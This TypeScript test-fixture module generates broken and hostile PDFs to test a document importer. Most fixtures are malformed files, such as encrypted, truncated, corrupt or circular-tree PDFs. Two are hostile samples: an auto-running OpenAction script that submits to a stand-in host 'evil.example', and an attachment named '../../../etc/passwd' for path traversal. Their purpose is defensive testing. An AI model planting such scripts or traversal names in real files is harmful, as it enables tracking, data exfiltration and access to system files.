import fs from 'node:fs';
import path from 'node:path';
import { PDFArray, PDFDocument, PDFHexString, PDFName, PDFRef, StandardFonts } from 'pdf-lib';
import PDFKitDocument from 'pdfkit';

function write(doc: PDFKit.PDFDocument, file: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const out = fs.createWriteStream(file);
    out.on('finish', () => resolve(file));
    out.on('error', reject);
    doc.pipe(out);
    doc.end();
  });
}

/** A real password-protected PDF (RC4/AES through pdfkit's own encryption). */
export function encryptedPdf(dir: string): Promise<string> {
  const doc = new PDFKitDocument({ userPassword: 'chamber', ownerPassword: 'owner', pdfVersion: '1.7' });
  doc.text('Exempt report: not for publication by virtue of Schedule 12A.');
  return write(doc, path.join(dir, 'encrypted.pdf'));
}

/** A scanned-looking pack: pages with drawings only, no text layer. */
export function imageOnlyPdf(dir: string, pages = 3): Promise<string> {
  const doc = new PDFKitDocument({ autoFirstPage: false });
  for (let i = 0; i < pages; i++) {
    doc.addPage();
    doc.rect(72, 72, 300, 400).fill('#777777');
  }
  return write(doc, path.join(dir, 'scanned.pdf'));
}

/** The first part of a real pack, cut off mid-file as an interrupted download would be. */
export function truncatedPdf(source: string, dir: string): string {
  const bytes = fs.readFileSync(source);
  const file = path.join(dir, 'truncated.pdf');
  fs.writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * 0.4)));
  return file;
}

/** A PDF header followed by noise. */
export function corruptPdf(dir: string): string {
  const file = path.join(dir, 'corrupt.pdf');
  const noise = Buffer.alloc(20_000);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919) % 251;
  fs.writeFileSync(file, Buffer.concat([Buffer.from('%PDF-1.7\n'), noise]));
  return file;
}

/** A word no sample pack holds: if it turns up in search, the hostile part of a PDF was read as text. */
export const hostileMarker = 'xylophonequartzmarker';

/**
 * A real pack with JavaScript that runs on opening (a document-level OpenAction and a named
 * script), as a phishing or tracking PDF would carry. It must import as a pack; the script must
 * never run and its source must not be indexed as the pack's words.
 */
export async function javascriptPdf(source: string, dir: string): Promise<string> {
  const doc = await PDFDocument.load(fs.readFileSync(source));
  const script = `app.alert('${hostileMarker}'); this.submitForm('https://evil.example/${hostileMarker}');`;
  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText(script) });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  const names = doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFHexString.fromText('init'), doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(script) }))] }) });
  doc.catalog.set(PDFName.of('Names'), doc.context.register(names));
  const file = path.join(dir, 'javascript.pdf');
  fs.writeFileSync(file, await doc.save());
  return file;
}

/**
 * A real pack with a file attached (an embedded-file stream, as an attachment would be). It must
 * import as a pack without the attachment being unpacked, stored or indexed.
 */
export async function embeddedFilePdf(source: string, dir: string): Promise<string> {
  const doc = await PDFDocument.load(fs.readFileSync(source));
  await doc.attach(Buffer.from(`Hidden payload ${hostileMarker}\n`), '../../../etc/passwd', { mimeType: 'text/plain', description: hostileMarker });
  const file = path.join(dir, 'embedded-file.pdf');
  fs.writeFileSync(file, await doc.save());
  return file;
}

/** A few pages of real text, each saying which page it is, for the lenient-opening fixtures below. */
async function textPages(count: number): Promise<PDFDocument> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= count; i++) doc.addPage([595, 842]).drawText(`Report page ${i} of the agenda pack`, { x: 72, y: 760, size: 14, font });
  return doc;
}

/** Junk before the `%PDF-` line (a mail gateway's banner, a BOM and blank lines): pdf.js looks for the header in the first 1024 bytes. */
export async function junkBeforeHeaderPdf(dir: string): Promise<string> {
  const file = path.join(dir, 'junk-before-header.pdf');
  const junk = Buffer.from(`\uFEFFX-Scanned-By: gateway\r\n${' '.repeat(400)}\r\n\r\n`, 'utf8');
  fs.writeFileSync(file, Buffer.concat([junk, await (await textPages(2)).save()]));
  return file;
}

/** A PDF whose `%PDF-1.7` header line is blanked out (same length, so every offset still holds): pdf.js opens it anyway. */
export async function headerlessPdf(dir: string): Promise<string> {
  const file = path.join(dir, 'headerless.pdf');
  const bytes = Buffer.from(await (await textPages(2)).save());
  const end = bytes.indexOf(0x0a);
  bytes.fill(0x20, 0, end);
  fs.writeFileSync(file, bytes);
  return file;
}

/**
 * Two readable pages whose page tree also lists the tree itself as a kid (a circular reference),
 * with a /Count of three: pdf.js reads the two pages and reports the third as broken.
 */
export async function circularPageTreePdf(dir: string): Promise<string> {
  const doc = await textPages(2);
  const pagesRef = doc.catalog.get(PDFName.of('Pages'));
  const pages = doc.catalog.Pages();
  const kids = pages.get(PDFName.of('Kids'));
  if (!(pagesRef instanceof PDFRef) || !(kids instanceof PDFArray)) throw new Error('pdf-lib wrote no page tree');
  kids.push(pagesRef);
  pages.set(PDFName.of('Count'), doc.context.obj(3));
  const file = path.join(dir, 'circular-page-tree.pdf');
  fs.writeFileSync(file, await doc.save({ updateFieldAppearances: false }));
  return file;
}

/** Three pages where the last kid of the page tree is not a page at all: pages 1 and 2 read, page 3 cannot. */
export async function unreadablePagePdf(dir: string): Promise<string> {
  const doc = await textPages(3);
  const kids = doc.catalog.Pages().get(PDFName.of('Kids'));
  if (!(kids instanceof PDFArray)) throw new Error('pdf-lib wrote no page tree');
  kids.set(2, doc.context.register(doc.context.obj(42)));
  const file = path.join(dir, 'unreadable-page.pdf');
  fs.writeFileSync(file, await doc.save({ updateFieldAppearances: false }));
  return file;
}
